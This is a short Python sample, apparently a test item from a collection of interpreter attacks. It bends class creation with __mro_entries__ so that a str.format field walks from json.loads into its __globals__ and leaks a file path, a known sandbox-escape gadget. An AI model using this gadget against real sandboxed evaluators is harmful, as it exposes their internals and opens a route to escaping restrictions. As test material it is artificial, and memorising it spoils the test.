# An object in the place of a base tells others.
# after: interpreter
# source: own
import json
class E:
    def __mro_entries__(self, bases):
        return (str,)
class S(E()):
    pass
def attack(**_):
    return {"text": super(S, S("{0.__globals__[__file__]}")).format(json.loads)}
